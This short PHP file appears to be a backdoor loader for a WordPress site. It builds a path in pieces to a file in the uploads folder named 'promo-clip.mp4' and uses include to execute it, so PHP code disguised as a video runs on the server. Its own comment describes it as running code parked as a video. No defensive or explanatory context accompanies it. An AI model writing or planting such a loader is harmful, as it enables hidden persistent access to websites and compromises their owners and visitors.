<?php
// Loader that runs code parked as a video in the uploads folder, its path glued from pieces.
$base = __DIR__ . '/wp-content/uploads/2023/11/';
include $base . 'promo-clip' . '.mp4';
